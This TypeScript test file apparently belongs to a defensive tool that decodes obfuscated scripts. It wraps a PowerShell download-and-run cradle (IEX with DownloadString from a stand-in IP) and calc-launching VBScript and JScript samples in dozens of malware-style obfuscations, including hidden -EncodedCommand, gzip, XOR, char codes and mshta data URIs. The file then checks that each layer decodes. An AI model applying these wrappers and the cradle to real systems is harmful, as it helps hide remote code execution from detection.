import { describe, expect, test } from "vitest";
import { decodePayload } from "./decode-payload.ts";
import type { PayloadLanguage } from "./decoded-layer.ts";

/** What one encoder wrote: the text, and the encodings with their ranges, each in the text that the one before gives. */
interface Written {
  readonly text: string;
  readonly steps: readonly { readonly encoding: string; readonly start: number; readonly end: number }[];
}
type Encoder = (inner: string) => Written | Promise<Written>;

const INNER = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/a')";
const codes = (text: string): number[] => [...text].map((unit) => unit.charCodeAt(0));
const hex = (code: number): string => code.toString(16).padStart(2, "0");
const bytesText = (bytes: Uint8Array): string => [...bytes].map((byte) => String.fromCharCode(byte)).join("");
const base64 = (text: string): string => btoa(text);
const base64Wide = (text: string): string =>
  btoa(
    codes(text)
      .map((code) => String.fromCharCode(code & 255, code >> 8))
      .join(""),
  );
const single = (text: string): string => `'${text.replaceAll("'", "''")}'`;
const vbs = (text: string): string => `"${text.replaceAll('"', '""')}"`;
const js = (text: string): string => `'${text.replace(/[\\']/g, "\\$&")}'`;
const turned = (text: string): string => [...text].reverse().join("");
const pieces = (text: string, length = 9): string[] => text.match(new RegExp(`[^]{1,${length}}`, "g")) ?? [];

/** Puts the encoded piece between two ends, and notes where it stands. */
function placed(encoding: string, before: string, encoded: string, behind: string): Written {
  const start = before.length;
  return { text: before + encoded + behind, steps: [{ encoding, start, end: start + encoded.length }] };
}

async function compressed(format: CompressionFormat, text: string): Promise<string> {
  const stream = new Blob([text]).stream().pipeThrough(new CompressionStream(format));
  return bytesText(new Uint8Array(await new Response(stream).arrayBuffer()));
}

function stream(format: CompressionFormat, encoding: string, before: string, behind: string): Encoder {
  return async (inner) => {
    const bytes = await compressed(format, inner);
    const outer = placed("base64-bytes", before, base64(bytes), behind);
    return { ...outer, steps: [...outer.steps, { encoding, start: 0, end: bytes.length }] };
  };
}

const encodedCommand =
  (flag: string): Encoder =>
  (inner) =>
    placed("base64-utf16le", `powershell.exe -nop -w hidden ${flag} `, base64Wide(inner), "");
const xored = (inner: string, key: number): number[] => codes(inner).map((code) => code ^ key);

const POWERSHELL: Record<string, Encoder> = {
  "base64 UTF-8": (inner) =>
    placed("base64-utf8", "IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('", base64(inner), "')))"),
  "base64 UTF-16": (inner) =>
    placed("base64-utf16le", '$x=[System.Convert]::FromBase64String("', base64Wide(inner), '")'),
  "gzip in base64": stream(
    "gzip",
    "gzip",
    "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('",
    "'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
  ),
  "deflate in base64": stream(
    "deflate-raw",
    "deflate",
    "$d=New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('",
    "'),0)",
  ),
  "zlib in base64": stream("deflate", "deflate", "$d=[Convert]::FromBase64String('", "')"),
  concatenation: (inner) => placed("concatenation", "IEX (", `${pieces(inner).map(single).join("+")}`, ")"),
  "concatenation with blanks and lines": (inner) =>
    placed("concatenation", "$x = ", pieces(inner).map(single).join(" + \n  "), "; IEX $x"),
  "-join list": (inner) => placed("concatenation", "IEX (", `${pieces(inner).map(single).join(",")} -join ''`, ")"),
  "format operator": (inner) => {
    const parts = pieces(inner);
    const marks = parts.map((_, i) => `{${parts.length - 1 - i}}`).join("");
    return placed("format-operator", "IEX (", `"${marks}" -f ${parts.reverse().map(single).join(",")}`, ")");
  },
  "reversed by index": (inner) =>
    placed("reversed", "IEX (", `-join ${single(turned(inner))}[-1..-${inner.length}]`, ")"),
  "reversed, index first": (inner) =>
    placed("reversed", "IEX (", `${single(turned(inner))}[-1..-(${inner.length})] -join ''`, ")"),
  "-replace": (inner) => placed("replace", "IEX (", `${single(inner.replaceAll("e", "~#"))} -replace '~#','e'`, ")"),
  "-creplace chain": (inner) =>
    placed(
      "replace",
      "IEX (",
      `${single(inner.replaceAll("(", "QQ1").replaceAll("t", "QQ2"))} -creplace 'QQ1','(' -creplace 'QQ2','t'`,
      ")",
    ),
  ".Replace chain": (inner) =>
    placed(
      "replace",
      "IEX ",
      `${single(inner.replaceAll("o", "@@").replaceAll(".", "!!"))}.Replace('@@','o').replace('!!','.')`,
      "",
    ),
  "[char[]] list": (inner) => placed("char-codes", "IEX (", `[char[]](${codes(inner).join(",")}) -join ''`, ")"),
  "[char] sum": (inner) =>
    placed(
      "char-codes",
      "IEX (",
      `${codes(inner)
        .map((code) => `[char]${code}`)
        .join("+")}`,
      ")",
    ),
  "loop of [char]": (inner) => placed("char-codes", "IEX (", `(${codes(inner).join(",")}|%{[char]$_}) -join ''`, ")"),
  "split into codes": (inner) =>
    placed(
      "char-codes",
      "IEX ",
      `-join ('${codes(inner).join("~")}'.Split('~') | ForEach-Object { [char][int]$_ })`,
      "",
    ),
  "-split into codes": (inner) =>
    placed("char-codes", "IEX (", `('${codes(inner).join("z")}' -split 'z'|%{([char][int]$_)})-join''`, ")"),
  "hex by Convert": (inner) =>
    placed(
      "hex",
      "IEX (",
      `('${codes(inner).map(hex).join(",")}' -split ',' |%{[char]([convert]::toint16($_,16))}) -join ''`,
      ")",
    ),
  "String.Join": (inner) =>
    placed(
      "char-codes",
      "IEX ",
      `[string]::Join('',(${codes(inner)
        .map((code) => `0x${hex(code)}`)
        .join(",")}|%{[char]$_}))`,
      "",
    ),
  "XOR in a loop": (inner) =>
    placed("xor", "IEX (", `(${xored(inner, 35).join(",")}|%{[char]($_ -bxor 35)}) -join ''`, ")"),
  "XOR over an array": (inner) =>
    placed(
      "xor",
      "$b=",
      xored(inner, 0x5a)
        .map((code) => `0x${hex(code)}`)
        .join(","),
      ";for($i=0;$i -lt $b.Length;$i++){$b[$i]=$b[$i] -bxor 0x5a}",
    ),
  "XOR over base64": (inner) => {
    const bytes = bytesText(Uint8Array.from(xored(inner, 0xa7)));
    const outer = placed(
      "base64-bytes",
      "$b=[Convert]::FromBase64String('",
      base64(bytes),
      "');for($i=0;$i -lt $b.Count;$i++){$b[$i]=$b[$i] -bxor 167}",
    );
    return { ...outer, steps: [...outer.steps, { encoding: "xor", start: 0, end: bytes.length }] };
  },
  "XOR with a word": (inner) => {
    const key = codes("k3y");
    const list = codes(inner).map((code, i) => code ^ (key[i % 3] as number));
    return placed(
      "xor",
      "$k='k3y';$b=",
      list.join(","),
      ";for($i=0;$i -lt $b.Length;$i++){$b[$i]=$b[$i] -bxor $k[$i % $k.Length]}",
    );
  },
  variables: (inner) => {
    const [first = "", ...rest] = pieces(inner, 40);
    return placed("concatenation", `$a=${single(first)};$b=${single(rest.join(""))};IEX (`, "$a+$b", ")");
  },
  "piece by piece": (inner) =>
    placed(
      "concatenation",
      "",
      `$s=''\n${pieces(inner)
        .map((part) => `$s+=${single(part)}`)
        .join("\n")}`,
      "\nIEX $s",
    ),
  "IEX of a literal": (inner) => placed("script-text", "IEX ", single(inner), ""),
  "ScriptBlock of a literal": (inner) => placed("script-text", "& ([scriptblock]::Create(", single(inner), "))"),
  "hex digits": (inner) => placed("hex", "$h='", codes(inner).map(hex).join(""), "'"),
  "hex with blanks": (inner) => placed("hex", '$h="', codes(inner).map(hex).join(" "), '"'),
  backtick: (inner) => ({
    text: inner.replace(/(?<=[A-Z])(?=[A-Z])/g, "`"),
    steps: [{ encoding: "backtick", start: 0, end: inner.replace(/(?<=[A-Z])(?=[A-Z])/g, "`").length }],
  }),
};

const VBSCRIPT: Record<string, Encoder> = {
  "Chr chain": (inner) =>
    placed(
      "char-codes",
      "Execute ",
      codes(inner)
        .map((code) => `Chr(${code})`)
        .join("&"),
      "",
    ),
  "ChrW, hex": (inner) =>
    placed(
      "char-codes",
      "Execute ",
      codes(inner)
        .map((code) => `ChrW(&H${hex(code)})`)
        .join(" & "),
      "",
    ),
  "Chr with sums": (inner) =>
    placed(
      "char-codes",
      "Execute ",
      codes(inner)
        .map((code) => `Chr(${code + 7}-7)`)
        .join("&"),
      "",
    ),
  concatenation: (inner) => placed("concatenation", "x = ", pieces(inner).map(vbs).join(" & "), "\nExecute x"),
  "concatenation over lines": (inner) =>
    placed("concatenation", "x = ", pieces(inner).map(vbs).join(" & _\r\n  "), "\r\nExecute x"),
  "piece by piece": (inner) =>
    placed(
      "concatenation",
      "",
      `s = ""\n${pieces(inner)
        .map((part) => `s = s & ${vbs(part)}`)
        .join("\n")}`,
      "\nExecute s",
    ),
  StrReverse: (inner) => placed("reversed", "Execute ", `StrReverse(${vbs(turned(inner))})`, ""),
  Replace: (inner) => placed("replace", "Execute ", `Replace(${vbs(inner.replaceAll("e", "#!"))}, "#!", "e")`, ""),
  "Join of an array": (inner) =>
    placed("concatenation", "Execute ", `Join(Array(${pieces(inner).map(vbs).join(", ")}), "")`, ""),
  "Execute of a literal": (inner) =>
    placed(inner.includes('"') ? "vbscript-escape" : "script-text", "Execute ", vbs(inner), ""),
  "XOR over a split list": (inner) =>
    placed(
      "xor",
      'For Each c In Split("',
      xored(inner, 91).join(","),
      '", ","): s = s & Chr(c Xor 91): Next: Execute s',
    ),
  "array of codes": (inner) =>
    placed("char-codes", "a = Array(", codes(inner).join(","), "): For i = 0 To UBound(a): s = s & Chr(a(i)): Next"),
  Unescape: (inner) =>
    placed(
      "url-escape",
      "Execute ",
      `Unescape("${codes(inner)
        .map((code) => `%${hex(code)}`)
        .join("")}")`,
      "",
    ),
};

const JSCRIPT: Record<string, Encoder> = {
  fromCharCode: (inner) => placed("char-codes", "eval(", `String.fromCharCode(${codes(inner).join(",")})`, ", 0);"),
  "\\x escapes": (inner) =>
    placed(
      "jscript-escape",
      "var s = ",
      `"${codes(inner)
        .map((code) => `\\x${hex(code)}`)
        .join("")}"`,
      "; eval(s);",
    ),
  "\\u escapes": (inner) =>
    placed(
      "jscript-escape",
      "var s = ",
      `"${codes(inner)
        .map((code) => `\\u00${hex(code)}`)
        .join("")}"`,
      "; eval(s);",
    ),
  unescape: (inner) =>
    placed(
      "url-escape",
      "var s = ",
      `unescape('${codes(inner)
        .map((code) => `%${hex(code)}`)
        .join("")}')`,
      ";",
    ),
  "split, reverse, join": (inner) =>
    placed("reversed", "var s = ", `${js(turned(inner))}.split('').reverse().join('')`, ";"),
  "join of an array": (inner) =>
    placed("concatenation", "var s = ", `[${pieces(inner).map(js).join(", ")}].join('')`, ";"),
  "replace, every one": (inner) =>
    placed("replace", "var s = ", `${js(inner.replaceAll("e", "#!"))}.replace(/#!/g, 'e')`, ";"),
  concatenation: (inner) => placed("concatenation", "var s = ", pieces(inner).map(js).join(" + "), ";\neval(s);"),
  "piece by piece": (inner) =>
    placed(
      "concatenation",
      "var ",
      `s = '';\n${pieces(inner)
        .map((part) => `s += ${js(part)};`)
        .join("\n")
        .slice(0, -1)}`,
      ";",
    ),
  concat: (inner) => placed("concatenation", "var s = ", `''.concat(${pieces(inner).map(js).join(", ")})`, ";"),
  "XOR over an array": (inner) =>
    placed(
      "xor",
      "var a = [",
      xored(inner, 77).join(", "),
      "], s = ''; for (var i = 0; i < a.length; i++) s += String.fromCharCode(a[i] ^ 77);",
    ),
};

const FLAGS = [..."encodedcommand"].map((_, i, all) => `-${all.slice(0, i + 1).join("")}`);
const COMMANDS: Record<string, Encoder> = {
  ...Object.fromEntries(
    [...FLAGS, "-ec", "/e", "/EncodedCommand", "\u2013enc", "\u2014EnC", '-e "', "-^e^n^c"].map((flag) => [
      `${flag} argument`,
      encodedCommand(flag),
    ]),
  ),
  "certutil block": (inner) =>
    placed(
      "base64-utf8",
      "-----BEGIN CERTIFICATE-----\r\n",
      pieces(base64(inner.repeat(1)), 64).join("\r\n"),
      "\r\n-----END CERTIFICATE-----",
    ),
  "data URI": (inner) => placed("base64-utf8", "mshta data:text/html;base64,", base64(inner), ""),
};

/** Encodes from the inside out and checks that each layer comes back, with its place in the one before. */
async function expectLayers(inner: string, encoders: readonly Encoder[], language?: PayloadLanguage): Promise<void> {
  const written: Written[] = [];
  const texts = [inner];
  for (const encode of encoders) {
    const next = await encode(texts.at(-1) as string);
    written.push(next);
    texts.push(next.text);
  }
  const payload = texts.at(-1) as string;
  const { layers, cut } = decodePayload(payload, language === undefined ? {} : { language });
  expect(cut).toBeUndefined();
  let parent = -1;
  for (let i = written.length - 1; i >= 0; i--) {
    for (const step of (written[i] as Written).steps) {
      const at = layers.findIndex(
        (layer) =>
          layer.parent === parent &&
          layer.start === step.start &&
          layer.end === step.end &&
          layer.encoding === step.encoding,
      );
      expect(
        at,
        `${step.encoding} at ${step.start} to ${step.end} in ${JSON.stringify(layers)}`,
      ).toBeGreaterThanOrEqual(0);
      expect(layers[at]?.depth).toBe((layers[parent]?.depth ?? 0) + 1);
      parent = at;
    }
    expect(layers[parent]?.text).toBe(texts[i]);
  }
}

describe("one layer", () => {
  const VBS_INNER = 'CreateObject("WScript.Shell").Run "calc.exe", 0';
  const JS_INNER = "new ActiveXObject('WScript.Shell').Run('calc.exe');";
  test.each(Object.entries(COMMANDS))("command: %s", (_, encode) => expectLayers(INNER, [encode]));
  test.each(Object.entries(POWERSHELL))("PowerShell: %s", (_, encode) => expectLayers(INNER, [encode], "powershell"));
  test.each(Object.entries(VBSCRIPT))("VBScript: %s", (_, encode) => expectLayers(VBS_INNER, [encode], "vbscript"));
  test.each(Object.entries(JSCRIPT))("JScript: %s", (_, encode) => expectLayers(JS_INNER, [encode], "jscript"));
});

describe("layers in layers", () => {
  const powershell = Object.entries(POWERSHELL);
  test.each(powershell)("PowerShell: %s inside -enc", (_, encode) =>
    expectLayers(INNER, [encode, encodedCommand("-enc")]),
  );
  test.each(powershell)("PowerShell: %s inside gzip inside -e", (_, encode) =>
    expectLayers(INNER, [encode, POWERSHELL["gzip in base64"] as Encoder, encodedCommand("-e")]),
  );
  test.each(powershell)("PowerShell: %s around a concatenation", (name, encode) =>
    name === "backtick" ? undefined : expectLayers(INNER, [POWERSHELL.concatenation as Encoder, encode]),
  );
  test.each(Object.entries(VBSCRIPT))("VBScript: Chr chain inside %s", (_, encode) =>
    expectLayers('MsgBox "one", 0', [VBSCRIPT["Chr chain"] as Encoder, encode], "vbscript"),
  );
  test.each(Object.entries(JSCRIPT))("JScript: fromCharCode inside %s", (_, encode) =>
    expectLayers("WScript.Echo('one');", [JSCRIPT.fromCharCode as Encoder, encode], "jscript"),
  );
});
